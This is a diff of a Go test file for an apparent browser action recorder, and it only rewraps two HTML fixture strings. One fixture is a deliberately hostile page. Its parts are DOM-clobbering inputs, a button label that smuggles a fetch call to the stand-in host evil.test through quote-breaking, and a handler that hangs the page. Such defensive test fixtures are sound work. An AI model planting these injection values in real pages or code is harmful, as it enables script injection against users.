@@ -176,13 +176,16 @@ func linesOf(t *testing.T, steps []args, site string) (lines string) {
 }
 
 // keyboardShop is for a user without a mouse, but for dragging. A frame is of another origin.
-const keyboardShop = `<!doctype html><title>Keys</title><form action="/found"><input id=q name=q aria-label=Query></form>
+const keyboardShop = `<!doctype html><title>Keys</title>
+<form action="/found"><input id=q name=q aria-label=Query></form>
 <input type=checkbox id=gift aria-label=Gift><select id=size aria-label=Size><option>small<option>large</select>
 <input type=radio name=cup id=mug aria-label=Mug checked><input type=radio name=cup id=glass aria-label=Glass>
 <input type=file id=photo hidden><button id=choose onclick="photo.click()">Choose</button>
-<div id=rich contenteditable aria-label=Text role=textbox></div><p id=shown tabindex=0 onkeydown="this.textContent = event.key">Keys</p>
+<div id=rich contenteditable aria-label=Text role=textbox></div>
+<p id=shown tabindex=0 onkeydown="this.textContent = event.key">Keys</p>
 <div id=card draggable=true aria-label=Card role=img style="width:60px;height:40px;background:red"></div>
-<div id=lane role=group aria-label=Lane style="width:90px;height:60px;background:tan" ondragover="event.preventDefault()">Lane</div>
+<div id=lane role=group aria-label=Lane style="width:90px;height:60px;background:tan"
+  ondragover="event.preventDefault()">Lane</div>
 <iframe id=other src="FRAME"></iframe>`
 
 // Keys, files, a drag, a frame in another process, and the browser's own navigations.
@@ -264,8 +267,10 @@ func TestRecordUserEverywhere(t *testing.T) {
 
 // hostileShown makes as many events as it can, in the time of each of the user's.
 const hostileShown = `<!doctype html><title>Hostile</title><form onsubmit="return false"><input name=parentNode hidden>
-<input name=getRootNode hidden><img name=querySelectorAll hidden><button id=buy type=button>Buy</button><input id=q aria-label=Query>
-<input id=trap aria-label=Trap><input id=secret aria-label=Secret><label id=lure for=box>Lure</label><input type=checkbox id=box>
+<input name=getRootNode hidden><img name=querySelectorAll hidden><button id=buy type=button>Buy</button><input
+  id=q aria-label=Query>
+<input id=trap aria-label=Trap><input id=secret aria-label=Secret><label id=lure for=box>Lure</label><input
+  type=checkbox id=box>
 <button id=odd type=button aria-label="'); await fetch('http://evil.test'); (' &quot;&#10;x">Odd</button>
 <button id=hang type=button onclick="navigator.sendBeacon('/hang'); for (;;);">Hang</button></form><script>
 const buyButton = buy, names = () => Object.getOwnPropertyNames(window).length, first = names();
